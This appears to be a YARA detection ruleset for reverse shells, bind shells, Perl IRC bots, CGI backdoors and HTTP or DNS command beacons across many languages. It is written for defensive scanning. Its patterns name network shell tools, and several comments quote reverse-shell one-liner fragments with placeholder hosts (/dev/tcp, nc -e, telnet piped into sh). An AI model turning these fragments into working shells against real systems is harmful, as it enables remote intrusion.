// Reverse and bind shells written with a language's own socket API: a socket connected out
// (or accepting) whose ends become a shell's standard input and output. T1059.* the
// interpreter, T1095 a non-application-layer protocol (a raw TCP or UDP stream).
// Scripts only: documentation that shows such a line (file_type "document") is left alone.

rule python_reverse_shell
{
    meta:
        severity = "high"
        attack = "T1059.006,T1095"
        description = "a Python reverse or bind shell: a socket whose ends become a shell's input and output"
    strings:
        $sock = /socket\.socket\s*\(/
        $sock2 = /\b([a-z_]+\.)?socket\s*\(\s*([a-z_]+\.)?AF_INET/
        $connect = /\.connect\s*\(\s*\(/
        $bind = /\.bind\s*\(\s*\(.{0,300}\.accept\s*\(/s
        $dup2 = /os\.dup2\s*\(\s*[a-z_]+\.fileno\s*\(\s*\)\s*,\s*[012]\s*\)/ nocase
        $pty = /pty\.spawn\s*\(\s*["'](\/bin\/)?(ba|z|da|k)?sh/
        $sub = /\b[a-z_]+\.(call|Popen|run)\s*\(\s*\[?\s*["'](\/bin\/(ba|z|da|k)?sh|sh|bash|cmd(\.exe)?|powershell)["']/
        $fileno = /std(in|out|err)\s*=\s*[a-z_]+\.fileno\s*\(\s*\)/
        $shell = /["'](\/bin\/(ba|z|da|k)?sh|cmd(\.exe)?)(\s+-i)?["']/
        // a generator's template names the shell by a placeholder ("$shell", "{shell}"): the
        // socket on descriptors 0, 1 and 2 and then any pty.spawn or subprocess list is enough
        $pty_any = /pty\.spawn\s*\(/
        $sub_any = /subprocess\.(call|Popen|run)\s*\(\s*\[/
    condition:
        file_type != "document" and filesize < 2MB and ($sock or $sock2) and
        ($connect or $bind) and ($pty or $sub or (($dup2 or $fileno) and $shell) or
        (#dup2 >= 2 and ($pty_any or $sub_any)))
}

rule php_reverse_shell
{
    meta:
        severity = "high"
        attack = "T1059.004,T1095,T1505.003"
        description = "a PHP reverse shell: fsockopen or socket_connect handed to a shell"
    strings:
        $fsock = /\b(fsockopen|pfsockopen|stream_socket_client|socket_connect)\s*\(/ nocase
        // the quotes may be escaped: the one-liner inside another language's string (\"/bin/sh -i\")
        $run = /\b(proc_open|exec|shell_exec|system|passthru|popen)\s*\(\s*\\?["'](\/bin\/)?(ba|z|da)?sh\b[^"']{0,40}["']/ nocase
        $run_fd = /\b(proc_open|exec|shell_exec|system|passthru|popen)\s*\(\s*\\?["'][^"']{0,40}<&\s*[0-9]/ nocase
        $desc = /proc_open\s*\([^;]{0,200}array\s*\(\s*0\s*=>\s*\$[a-z_]+/ nocase
        $cmd = /["'](\/bin\/(ba|z|da)?sh|cmd(\.exe)?)(\s+-i)?["']/
        // the backtick operator: `/bin/sh -i <&3 >&3 2>&3`
        $tick_fd = /`\s*(\/bin\/)?(ba|z|da)?sh\b[^`]{0,40}<&\s*[0-9]/
        // proc_open of a shell whose pipes a loop copies to and from the socket
        $procopen = /\bproc_open\s*\(/ nocase
        $shell_any = /["'][^"'\n]{0,60}(\/bin\/(ba|z|da)?sh|cmd\.exe)[^"'\n]{0,20}["']/ nocase
        $copy = /\b(fwrite|socket_write|stream_select)\s*\(/ nocase
    condition:
        file_type != "document" and filesize < 2MB and $fsock and
        ($run or $run_fd or $tick_fd or ($desc and $cmd) or ($procopen and $shell_any and $copy))
}

rule perl_ruby_lua_reverse_shell
{
    meta:
        severity = "high"
        attack = "T1059.004,T1095"
        description = "a Perl, Ruby or Lua reverse shell: a TCP socket joined to a shell"
    strings:
        // Perl: socket/connect, or IO::Socket::INET, then STDIN/STDOUT duplicated onto it
        $pl_sock = /\bsocket\s*\(\s*[A-Z]+\s*,\s*PF_INET/
        $pl_io = /(IO::Socket::INET\s*->\s*new\s*\(|\bnew\s+IO::Socket::INET\s*\()/
        // standard input from the socket, and a shell started right after: perl5db.pl also reads
        // its commands from a socket (RemotePort) but never hands it to a shell
        $pl_dup = /open\s*\(\s*STDIN\s*,\s*["']?[<>+]{0,2}&.{0,300}\b(exec|system)\s*\(?\s*["'](\/bin\/)?(ba|z|da)?sh\b/s
        $pl_loop = /\bsystem\s*\$_\s*while\s*</
        // the shell's path in a variable: $shell = '/bin/sh'; ... system($shell)
        $pl_dup_var = /open\s*\(\s*STDIN\s*,\s*["']?[<>+]{0,2}&.{0,600}\b(exec|system)\s*\(?\s*\$[a-z_][a-z0-9_]*\s*\)?\s*;/s
        // Ruby: TCPSocket and a shell on its descriptor
        $rb_sock = /\bTCPSocket\.(new|open)\s*\(/
        $rb_exec = /\b(exec|spawn|system|IO\.popen)\s*\(?\s*(sprintf\s*\(\s*)?["'](\/bin\/)?(ba|z|da)?sh\b/
        $rb_popen = /IO\.popen\s*\(\s*(\$_|[a-z_]+)\s*,\s*(\\?["']r\\?["']|\?r)\s*\)/
        // Lua: LuaSocket and io.popen or os.execute
        $lua_sock = /\b[a-z_]+\.tcp\s*\(\s*\)/
        $lua_req = /require\s*\(?\s*["']socket["']/
        $lua_run = /\b(io\.popen|os\.execute)\s*\(/
        $lua_recv = /:receive\s*\(/
        $shell = /["'](\/bin\/)?(ba|z|da)?sh(\s+-i)?["' <]/
        $shell2 = "/bin/sh"
    condition:
        file_type != "document" and filesize < 2MB and (
            (($pl_sock or $pl_io) and ($pl_dup or $pl_loop or ($pl_dup_var and $shell2))) or
            ($rb_sock and ($rb_exec or $rb_popen)) or
            ($lua_sock and $lua_req and $lua_run and ($shell or $shell2 or $lua_recv)))
}

rule node_reverse_shell
{
    meta:
        severity = "high"
        attack = "T1059.007,T1095"
        description = "a Node.js reverse shell: a net socket piped into a spawned shell"
    strings:
        $net = /(new\s+net\.Socket\s*\(|net\.connect\s*\(|net\.createConnection\s*\()/
        $spawn = /\.spawn\s*\(\s*["'](\/bin\/)?(ba|z|da)?sh|cmd(\.exe)?["']/
        $pipe = /\.std(in|out)\.pipe\s*\(/
    condition:
        file_type != "document" and filesize < 2MB and $net and $spawn and $pipe
}

rule powershell_reverse_shell
{
    meta:
        severity = "high"
        attack = "T1059.001,T1095"
        description = "a PowerShell reverse or bind shell: a TCP client's stream read as commands and answered"
    strings:
        $client = /net\.sockets\.tcpclient/ nocase
        $listener = /net\.sockets\.tcplistener/ nocase
        $accept = /\.accepttcpclient\s*\(/ nocase
        $stream = /\.getstream\s*\(\s*\)/ nocase
        $run = /\b(iex|invoke-expression)\b/ nocase
        $run2 = /\|\s*out-string/ nocase
        $read = /\.read\s*\(\s*\$[a-z_]+\s*,\s*0\s*,/ nocase
        // a StreamReader over the stream (or an SslStream over it), read line by line
        $reader = /new-object\s+["']?(system\.)?io\.streamreader["']?\s*\(?\s*\$/ nocase
        $readline = /\.readline\s*\(\s*\)/ nocase
    condition:
        file_type != "document" and filesize < 2MB and ($client or ($listener and $accept)) and
        $stream and ($run or $run2) and ($read or ($reader and $readline))
}

rule shell_socket_reverse_shell
{
    meta:
        severity = "high"
        attack = "T1059.004,T1095"
        description = "a shell reverse or bind shell: /dev/tcp or /dev/udp as a shell's input and output, a named pipe between sh and nc, nc -e/-c, socat exec, awk /inet"
    strings:
        // sh -i >& /dev/udp/h/p 0>&1; exec 5<>/dev/tcp/h/p; 0<&196;exec 196<>/dev/tcp/h/p
        $dev_shell = /\b(ba|z|da|k)?sh\s+(-i\s+)?[^\n]{0,20}[<>]&?\s*\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]+/
        $dev_exec = /\bexec\s+[0-9]+\s*<>\s*\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]+/
        $fd_shell = /\b(ba|z|da|k)?sh\s+(-i\s+)?<&\s*[0-9]+\s*>&\s*[0-9]+/
        $fd_loop = /<&\s*[0-9]+\s*\|\s*while\s+read\b/
        $fifo = /\b(mkfifo\s+|mknod\s+)[^\n;|&]{1,80}.{0,120}\b(ba|z|da|k)?sh\b[^\n]{0,60}\|\s*(nc|ncat|netcat|telnet|openssl\s+s_client)\b/
        $fifo2 = /\b(mkfifo\s+|mknod\s+)[^\n;|&]{1,80}.{0,120}\b(nc|ncat|netcat|telnet|openssl\s+s_client)\b[^\n]{0,80}\|\s*(\/bin\/)?(ba|z|da|k)?sh\b/
        $nc = /\b(nc|ncat|netcat|nc\.traditional)\s[^\n|;]{0,80}-(e|c)\s*["']?(\/bin\/)?(ba|z|da|k)?sh\b/
        $nc_win = /\b(nc|ncat)(\.exe)?\s[^\n|;]{0,80}-e\s*["']?(cmd|powershell)(\.exe)?\b/ nocase
        // socat with a network address and a shell (its own examples run proxies and filters
        // with exec:, or a shell on standard input)
        $socat = /\bsocat\s[^\n]{0,200}\b(tcp|tcp4|tcp6|tcp-l|tcp-listen|tcp-connect|udp|udp-l|udp-listen|openssl|openssl-listen|ssl|sctp)[:-][^\n]{0,200}\b(exec|system):["']?(\/bin\/)?(ba|z|da|k)?sh\b/ nocase
        $socat2 = /\bsocat\s[^\n]{0,200}\b(exec|system):["']?((\/bin\/)?(ba|z|da|k)?sh|cmd|powershell)\b[^\n]{0,200}\s(tcp|tcp4|tcp6|tcp-l|tcp-listen|tcp-connect|udp|udp-l|udp-listen|openssl|openssl-listen|ssl|sctp)[:-]/ nocase
        $socat_cmd = /\bsocat\s[^\n]{0,200}\b(tcp|tcp4|tcp6|tcp-l|tcp-listen|tcp-connect|udp|openssl|ssl)[:-][^\n]{0,200}\b(exec|system):["']?(cmd|powershell)(\.exe)?\b/ nocase
        $awk = /\/inet\/(tcp|udp)\/[0-9]+\/[^\/\s]+\/[0-9]+/
        // telnet h p | sh | telnet h p2: one connection for commands, one for their output
        $telnet2 = /\btelnet\s+[^\s|;]+\s+[0-9]+\s*\|\s*(\/bin\/)?(ba|z|da|k)?sh\s*\|\s*telnet\s/
        // zsh's own TCP module: ztcp, then a shell on the connection's descriptor
        $ztcp = /\bztcp\s+[^\s;&|]+\s+[0-9]+[^\n]{0,80}\b(ba|z|da|k)?sh\s+[^\n]{0,20}[<>]&\s*\$REPLY/
        // rustcat
        $rcat = /\brcat\s+(connect|c|listen|l)\s[^\n]{0,80}-(s|-shell|ib)\s+["']?(\/bin\/)?(ba|z|da|k)?sh\b/
    condition:
        file_type != "document" and filesize < 2MB and
        ($dev_shell or ($dev_exec and ($fd_shell or $fd_loop)) or $fifo or $fifo2 or $nc or
         $nc_win or $socat or $socat2 or $socat_cmd or $awk or $telnet2 or $ztcp or $rcat)
}

// Session 13 (issue #16): Perl backdoors the rule above missed on real collections.

// A Perl reverse or bind shell written without parentheses or with AF_INET/&PF_INET: a socket,
// standard input read from it, and a shell executed.
rule perl_socket_shell
{
    meta:
        severity = "high"
        attack = "T1059.004,T1095"
        description = "a Perl reverse or bind shell: a TCP socket whose handle becomes standard input of a shell"
    strings:
        $sock = /\bsocket\s*\(\s*[A-Z_]+\s*,\s*&?(PF|AF)_INET\b/
        $io = /IO::Socket::INET\s*->\s*new\b|\bnew\s+IO::Socket::INET\b/
        // standard input taken from the socket and a shell run right after it (perl5db.pl also
        // reads from a socket, but runs its commands far away and never a shell on it)
        $dup_run = /open\s*\(?\s*STDIN\s*,\s*["']?<&.{0,400}\b(exec|system)\s*\(?\s*(["'][^"'\n]{0,40}\bsh\b|\$[a-z_][a-z0-9_]*|\{\s*["'])/s
        // ...or every standard handle duplicated onto the socket (">&SOCK", "<&".fileno($c))
        // and a shell run next, its path in braces, quoted or in a variable: exec {'/bin/sh'}
        // '-bash', exec({"/bin/sh"} ($name, "-i")), exec("$SHELL")
        $dup_out = /open\s*\(?\s*STDOUT\s*,\s*["']?[>+]{1,2}&[^;\n]{1,60};.{0,400}\bexec\s*[({]{1,2}\s*(["'][^"'\n]{0,40}\bsh\b|"\$[a-z_][a-z0-9_]*"|\$[a-z_][a-z0-9_]*\s*\))/s
    condition:
        file_type != "document" and filesize < 2MB and ($sock or $io) and ($dup_run or $dup_out)
}

// The Perl IRC bots (Shellbot, Pitbull, w3tw0rk, "Stealth" bots): an IRC client over a raw
// socket that floods, scans or runs shell commands from the channel, often under a false
// process name.
rule perl_irc_bot
{
    meta:
        severity = "high"
        attack = "T1095,T1059.004,T1498"
        description = "a Perl IRC bot: an IRC client on a raw socket that runs shell commands from the channel, floods or scans, under a false process name"
    strings:
        $perl = /(^#!\s*\S*perl|\buse\s+(strict|IO::Socket|Socket)\b|\bmy\s+\$[a-z_]+\s*=)/
        $sock = /IO::Socket::INET|\bsocket\s*\(\s*[A-Z_$a-z]+\s*,\s*&?(PF|AF)_INET/
        $privmsg = "PRIVMSG" nocase
        $nick = /["']NICK\s/ nocase
        $user = /["']USER\s/ nocase
        $run = /(`\s*\$[a-z_]|\bsystem\s*\(?\s*\$|\bexec\s*\(?\s*\$|\bopen\s*\(\s*[A-Z_$a-z]+\s*,\s*["']?\$[a-z_][a-z0-9_]*\s*\|)/
        $flood = /\b(udp|tcp|syn|http|ctcp|icmp)_?flood/ nocase
        $scan = /port_?scan/ nocase
        $masq = /\$0\s*=\s*["'$]/
        $fork = /\bfork\b/
    condition:
        file_type != "document" and filesize < 2MB and $perl and $sock and $privmsg and $nick and $user and
        ($run or $flood) and 2 of ($flood, $scan, $masq, $fork, $run)
}

// A Perl CGI backdoor: the query string run as a command (my @out = `$req`).
rule perl_cgi_query_runner
{
    meta:
        severity = "high"
        attack = "T1505.003"
        description = "a Perl CGI script that runs the query string or a parameter as a shell command"
    strings:
        $qs = /\$ENV\s*\{\s*["']?(QUERY_STRING|HTTP_[A-Z_]+)["']?\s*\}/
        $param = /\bparam\s*\(\s*["'][^"'\n]{1,20}["']\s*\)/
        $assign = /\$([a-z_][a-z0-9_]*)\s*=\s*(\$ENV\s*\{\s*["']?(QUERY_STRING|HTTP_[A-Z_]+)["']?\s*\}|(\$[a-z_]+\s*->\s*)?param\s*\(\s*["'][^"'\n]{1,20}["']\s*\))/
        $run_tick = /`\s*\$[a-z_][a-z0-9_]*\s*`/
        $run = /(\bqx\s*[\/({]\s*\$[a-z_]|\bsystem\s*\(?\s*\$[a-z_]|\bexec\s*\(?\s*\$[a-z_]|\bopen\s*\(?\s*[A-Z_$a-z]+\s*,\s*["']?\$[a-z_][a-z0-9_]*\s*\|)/
        $ct = /Content-type:/ nocase
    condition:
        file_type != "document" and filesize < 128KB and ($qs or $param) and $assign and ($run or $run_tick) and $ct
}

// Session 19 (issue #16): the same techniques in the other languages a host runs, the command
// loops of small agents (what arrives on the socket or in the HTTP answer is run by a shell and
// its output sent back), and the templates of generators, whose host and port are placeholders
// ({ip}, $port, %s, <PORT>, LPORT) rather than numbers.

// /dev/tcp, /inet/tcp and socat with a placeholder for the address or the port: a generator's
// template, or a script that takes them from its arguments. Only the interactive forms (sh -i
// with 0>&1, a shell on the connection's descriptor, awk's command loop), not a port probe such
// as bash -c "</dev/tcp/$host/$port".
rule shell_reverse_shell_template
{
    meta:
        severity = "high"
        attack = "T1059.004,T1095"
        description = "a shell reverse shell whose address or port is a placeholder or a variable (a generator's template or a parameterised payload)"
    strings:
        $dev_i = /\b(ba|z|da|k)?sh\s+-i\s*[^\n]{0,20}[<>]&?\s*\/dev\/(tcp|udp)\/[^\/\s"']+\/([0-9]{1,5}|\$\{?[A-Za-z_][A-Za-z0-9_]*\}?|\{[A-Za-z_0-9]*\}|%[sd]|<[A-Za-z_]+>|[A-Z][A-Z_]{2,})[^\n]{0,40}0\s*>&\s*1/
        $dev_fd = /\bexec\s+[0-9]+\s*<>\s*\/dev\/(tcp|udp)\/[^\/\s"']+\/([0-9]{1,5}|\$\{?[A-Za-z_][A-Za-z0-9_]*\}?|\{[A-Za-z_0-9]*\}|%[sd]|<[A-Za-z_]+>|[A-Z][A-Z_]{2,}).{0,80}\b(ba|z|da|k)?sh\s+(-i\s+)?<&\s*[0-9]+\s*>&\s*[0-9]+/s
        $awk = /\/inet\/(tcp|udp)\/[0-9]+\/[^\/\s"']+\/[^\/\s"']+"[^\n]{0,200}\|&\s*[a-z_]+\s*;[^\n]{0,100}\|&\s*getline/
        $socat = /\bsocat\s[^\n]{0,100}\b(tcp|tcp4|tcp-connect|openssl|ssl|udp)[:-][^:\s]+:[^\s,]+\s+["']?(exec|system):["']?(\$\{?[A-Za-z_]+\}?|\{[A-Za-z_]*\}|%s|(\/bin\/)?(ba|z|da|k)?sh\b)/ nocase
        // curl's telnet:// twice around a shell (one connection in, one out)
        // a named pipe between a shell (named by a placeholder) and nc: cat f | $shell -i 2>&1 | nc
        $fifo = /\bmkfifo\s+\S+[^\n]{0,80}\|\s*\S+\s+-i\s+2>&1\s*\|\s*(nc|ncat|netcat|telnet|openssl\s+s_client)\b/
        $nc = /\b(nc|ncat|netcat)\s[^\n|;]{0,80}-(e|c)\s*["']?(\$\{?[A-Za-z_]+\}?|\{[A-Za-z_]*\})\s+(\$\{?[A-Za-z_]+\}?|\{[A-Za-z_]*\}|[0-9.]+)/
        $dev_loop = /\bexec\s+[0-9]+\s*<>\s*\/dev\/(tcp|udp)\/[^\/\s"']+\/[^\s;"']+[^\n]{0,40}<&\s*[0-9]+\s*\|\s*while\s+read\b/
        // Ruby's exec of a shell on the socket's number: exec sprintf("$shell -i <&%d >&%d", f, f)
        $rb_fd = /\bexec\s*\(?\s*sprintf\s*\(\s*["'][^"'\n]{0,30}<&%d\s*>&%d/
        // the one-liner built in a program's string with the address spliced in:
        // "sh -i >& /dev/tcp/" + ip + "/" + port, "exec 196<>/dev/tcp/" + ip ... "sh <&196 >&196"
        $dev_cat = /\b(ba|z|da|k)?sh\s+-i\s*[>&0-9 ]{0,6}\/dev\/(tcp|udp)\/\\?["']\s*[+.,]/
        $dev_exec_cat = /\bexec\s+[0-9]+\s*<>\s*\/dev\/(tcp|udp)\/\\?["']\s*[+.,][^\n]{0,200}\b(ba|z|da|k)?sh\s+<&\s*[0-9]+\s*>&\s*[0-9]+/
        // an interactive shell piped into nc, the named pipe made elsewhere
        $nc_pipe = /\|\s*(\/bin\/)?(ba|z|da|k)?sh\s+-i\s+2>&1\s*\|\s*(nc|ncat|netcat|telnet)\s/
        $curl_telnet = /curl\s[^\n|]{0,40}telnet:\/\/[^\n|]{0,120}\|\s*(\/bin\/)?(ba|z|da|k)?sh\b[^\n|]{0,20}\|\s*[^\n]{0,80}(curl|\$[A-Za-z_]+)/
    condition:
        file_type != "document" and filesize < 2MB and any of them
}

// A Python agent: a socket (or an HTTP exchange) whose received text is run by a shell and
// whose output goes back; often with a loop that reconnects. Python's own reverse shells that
// hand the socket to a shell are python_reverse_shell's.
rule python_socket_command_loop
{
    meta:
        severity = "high"
        attack = "T1059.006,T1095"
        description = "a Python backdoor: commands received on a TCP socket are run by a shell and their output sent back"
    strings:
        $connect = /\.connect\s*\(\s*\(|\bcreate_connection\s*\(\s*\(/
        $accept = /\.bind\s*\(\s*\(.{0,400}\.accept\s*\(/s
        $recv = /\.recv\s*\(/
        $send = /\.send(all)?\s*\(/
        // a shell runs a variable: subprocess.Popen(cmd, shell=True), sp.check_output(d, shell=True),
        // subprocess.getoutput(data), os.popen(command)
        $run_shell = /\b[a-z_]+\.(Popen|check_output|run|call)\s*\(\s*[a-z_][a-z0-9_]*(\.decode\s*\([^)]{0,20}\))?(\[[^\]]{0,10}\])?(\.strip\s*\(\s*\))?\s*,[^)]{0,200}shell\s*=\s*True/
        $run_get = /\b[a-z_]+\.(getoutput|getstatusoutput)\s*\(\s*[a-z_][a-z0-9_]*/
        $run_popen = /\bos\.popen\s*\(\s*[a-z_][a-z0-9_]*(\.decode\s*\([^)]{0,20}\))?\s*\)/
        // a shell process's pipes fed from the socket and read back into it, thread by thread
        $pipe_in = /\.stdin\.write\s*\(\s*[a-z_][a-z0-9_.]*\.recv\s*\(/
        $pipe_out = /\.send(all)?\s*\(\s*[a-z_][a-z0-9_.]*\.std(out|err)\.read/
    condition:
        file_type != "document" and filesize < 1MB and
        ((($connect or $accept) and $recv and $send and ($run_shell or $run_get or $run_popen)) or
         ($pipe_in and $pipe_out))
}

rule python_http_command_loop
{
    meta:
        severity = "high"
        attack = "T1059.006,T1071.001"
        description = "a Python backdoor over HTTP: a loop fetches a command, a shell runs it and the output is posted back"
    strings:
        $loop = /\bwhile\s+(True|1)\s*:/
        $get = /\b(requests\.get|urlopen|request\.urlopen|urllib2?\.urlopen|session\.get|http\.client\.HTTPS?Connection)\s*\(/
        $post = /\b(requests\.post|session\.post|urlencode|\.request\s*\(\s*["']POST["'])\s*\(?/
        $run_shell = /\b[a-z_]+\.(Popen|check_output|run|call)\s*\(\s*[a-z_][a-z0-9_]*(\.decode\s*\([^)]{0,20}\))?(\[[^\]]{0,10}\])?(\.strip\s*\(\s*\))?\s*,[^)]{0,200}shell\s*=\s*True/
        $run_get = /\b[a-z_]+\.(getoutput|getstatusoutput)\s*\(\s*[a-z_][a-z0-9_]*/
        $run_popen = /\bos\.popen\s*\(\s*[a-z_][a-z0-9_]*(\.decode\s*\([^)]{0,20}\))?\s*\)/
    condition:
        file_type != "document" and filesize < 1MB and $loop and $get and $post and
        ($run_shell or $run_get or $run_popen)
}

// PHP's socket extension (socket_create, then socket_connect or socket_accept) whose read text
// a shell runs and whose output socket_write sends: the bind and reverse shells that do not
// name /bin/sh.
rule php_socket_command_loop
{
    meta:
        severity = "high"
        attack = "T1059.004,T1095,T1505.003"
        description = "a PHP bind or reverse shell: text read from a raw socket is run by a shell and the output written back"
    strings:
        $create = /\bsocket_create\s*\(\s*AF_INET/ nocase
        $peer = /\bsocket_(connect|accept)\s*\(/ nocase
        $read = /\bsocket_read\s*\(/ nocase
        $write = /\bsocket_write\s*\(/ nocase
        $run = /\b(popen|shell_exec|exec|system|passthru|proc_open)\s*\(\s*["']?\$[a-z_][a-z0-9_]*/ nocase
    condition:
        file_type != "document" and filesize < 2MB and all of them
}

// Java, Groovy and the JavaScript of Java's engines (Nashorn, Rhino): a java.net.Socket and a
// shell process whose streams are copied into each other. These compiled languages' rules read
// files under 64 KB: a payload is a small program, a large project's source file that holds a
// socket and a process apart is not one.
rule java_socket_shell
{
    meta:
        severity = "high"
        attack = "T1059,T1095"
        description = "a Java or Groovy reverse shell: a socket's streams copied to and from a shell process"
    strings:
        $sock = /new\s+(java\.net\.)?Socket\s*\(/
        $proc = /(new\s+(java\.lang\.)?ProcessBuilder\s*\(|Runtime\.getRuntime\s*\(\s*\)\s*\.exec\s*\()/
        $shell = /["'](\/bin\/(ba|z|da)?sh|sh|bash|cmd(\.exe)?|powershell(\.exe)?)["']/
        $pin = /\.getInputStream\s*\(\s*\)/
        $pout = /\.getOutputStream\s*\(\s*\)/
    condition:
        file_type != "document" and filesize < 64KB and $sock and $proc and $shell and $pin and $pout
}

// Go: a connection made with net.Dial given as a shell command's standard input and output.
rule go_socket_shell
{
    meta:
        severity = "high"
        attack = "T1059,T1095"
        description = "a Go reverse shell: a net.Dial connection made a shell's standard input and output"
    strings:
        $dial = /\bnet\.Dial(TCP|Timeout)?\s*\(/
        $cmd = /\bexec\.Command\s*\(\s*["'](\/bin\/(ba|z|da)?sh|sh|bash|cmd(\.exe)?|powershell(\.exe)?)["']/
        // the connection itself (cmd.Stdin = conn), not os.Stdin or a buffer's field
        $stdin = /\.Stdin\s*=\s*[a-z_][a-z0-9_]*\s*[;\n]/
        $stdout = /\.Stdout\s*=\s*[a-z_][a-z0-9_]*\s*[;\n]/
    condition:
        file_type != "document" and filesize < 64KB and $dial and $cmd and $stdin and $stdout
}

// C: a socket connected (or accepted), duplicated onto standard input, output and error, and a
// shell executed; on Windows a WSASocket handed to CreateProcess as cmd.exe's standard handles.
rule c_socket_shell
{
    meta:
        severity = "high"
        attack = "T1059,T1095"
        description = "a C reverse or bind shell: a socket made a shell's standard input and output (dup2 and exec, or CreateProcess with the socket as its handles)"
    strings:
        $sockaddr = /\b(struct\s+sockaddr_in|SOCKADDR_IN)\b/
        $peer = /\b(connect|accept|WSAConnect)\s*\(/
        $dup = /\bdup2\s*\(\s*[a-z_][a-z0-9_]*\s*,\s*(0|1|2|[a-z_])\s*\)/
        $exec = /\bexec(l|lp|le|v|vp|ve)\s*\(\s*["'](\/bin\/(ba|z|da)?sh|sh|bash)["']/
        $wsa = /\bWSASocket[AW]?\s*\(/
        $handles = /\.hStd(Input|Output|Error)\s*=[^;]{0,80}\(\s*HANDLE\s*\)/
        $create = /\bCreateProcess[AW]?\s*\(/
        $cmd = /["']cmd(\.exe)?["']/ nocase
    condition:
        file_type != "document" and filesize < 64KB and $sockaddr and $peer and
        (($dup and $exec) or ($wsa and $handles and $create and $cmd))
}

// C#: a TcpClient's stream and a shell process whose standard input and output are redirected.
rule csharp_socket_shell
{
    meta:
        severity = "high"
        attack = "T1059,T1095"
        description = "a C# reverse shell: a TcpClient's stream joined to a shell process with redirected input and output"
    strings:
        $client = /new\s+(System\.Net\.Sockets\.)?TcpClient\s*\(/
        $stream = /\.GetStream\s*\(\s*\)/
        $redirect = /RedirectStandard(Input|Output)\s*=\s*true/
        $shell = /["'](\/bin\/(ba|z|da)?sh|bash|cmd(\.exe)?|powershell(\.exe)?)["']/ nocase
    condition:
        file_type != "document" and filesize < 64KB and all of them
}

// Rust: a TcpStream whose raw descriptor becomes a shell's standard input and output.
rule rust_socket_shell
{
    meta:
        severity = "high"
        attack = "T1059,T1095"
        description = "a Rust reverse shell: a TcpStream's descriptor made a shell's standard input and output"
    strings:
        $connect = /TcpStream::connect\s*\(/
        $cmd = /Command::new\s*\(\s*["'](\/bin\/(ba|z|da)?sh|sh|bash|cmd(\.exe)?|powershell(\.exe)?)["']/
        $fd = /(from_raw_fd|from_raw_socket|as_raw_fd|as_raw_socket|into_raw_fd)\s*\(/
    condition:
        file_type != "document" and filesize < 64KB and all of them
}

// Ruby's TCPServer (a bind shell) whose accepted client the process's descriptors reopen before a
// shell is executed.
rule ruby_bind_shell
{
    meta:
        severity = "high"
        attack = "T1059.004,T1095"
        description = "a Ruby bind shell: a TCPServer's client made the standard descriptors of a shell"
    strings:
        $server = /\bTCPServer\.(new|open)\s*\(/
        $accept = /\.accept\b/
        $reopen = /\.reopen\s*\(\s*[a-z_]+\s*\)/
        $exec = /\b(exec|spawn|system)\s*\(?\s*["'](\/bin\/)?(ba|z|da)?sh\b/
    condition:
        file_type != "document" and filesize < 1MB and all of them
}

// Dart and Crystal: a socket connected and a shell process started on what it receives.
rule dart_crystal_socket_shell
{
    meta:
        severity = "high"
        attack = "T1059,T1095"
        description = "a Dart or Crystal reverse shell: a TCP socket whose input a shell process runs"
    strings:
        $dart_sock = /\bSocket\.connect\s*\(/
        $dart_proc = /\bProcess\.start\s*\(\s*["'](\/bin\/(ba|z|da)?sh|sh|bash|cmd(\.exe)?|powershell(\.exe)?)["']/
        $cr_sock = /\bSocket\.tcp\s*\(/
        $cr_connect = /\.connect\s*\(/
        $cr_proc = /\bProcess\.(new|run)\s*\([^\n]{0,200}shell:\s*true/
    condition:
        file_type != "document" and filesize < 64KB and
        (($dart_sock and $dart_proc) or ($cr_sock and $cr_connect and $cr_proc))
}

// A shell script's beacon: a loop that fetches a command over HTTP or from a DNS TXT answer, runs
// it and (over HTTP) posts the output back.
rule shell_http_command_loop
{
    meta:
        severity = "high"
        attack = "T1059.004,T1071.001"
        description = "a shell beacon: a loop fetches a command with curl or wget, runs it and posts the output back"
    strings:
        $loop = /\bwhile\s+(true|:|\[\s*1\s*\]|\[\[\s*1\s*\]\])\s*;?\s*(do)?\b/
        $fetch = /\$\(\s*(curl|wget)\s[^)\n]{0,200}\)|`\s*(curl|wget)\s[^`\n]{0,200}`/
        $run = /\b(eval|(ba)?sh\s+-c)\s+["']?\$\{?[a-z_][a-z0-9_]*/ nocase
        $post = /\b(curl\s[^\n]{0,160}(\s-d\s|\s--data(-binary|-urlencode)?[\s=]|\s-F\s|-X\s*POST)|wget\s[^\n]{0,160}--post-(data|file))/
    condition:
        file_type != "document" and filesize < 1MB and all of them
}

rule shell_dns_txt_command
{
    meta:
        severity = "high"
        attack = "T1059.004,T1071.004"
        description = "a shell script that runs what a DNS TXT answer holds (a DNS command channel)"
    strings:
        // case written out rather than nocase: short atoms in every case cost a pass per letter
        $dig = /\b(dig|host|nslookup|drill)\s[^\n|)`]{0,120}(\s(TXT|txt)\b|-t\s*(TXT|txt)\b|-(type|q)=(TXT|txt)\b)[^\n]{0,120}\|\s*(base64\s+(-d|--decode)\s*\|\s*)?(ba|da)?sh\b/
        $eval = /\b(eval|(ba)?sh\s+-c)\s+["']?\$\(\s*(dig|host|nslookup|drill)\s[^)\n]{0,120}(\s(TXT|txt)\b|-t\s*(TXT|txt)\b|-(type|q)=(TXT|txt)\b)/
    condition:
        file_type != "document" and filesize < 1MB and any of them
}
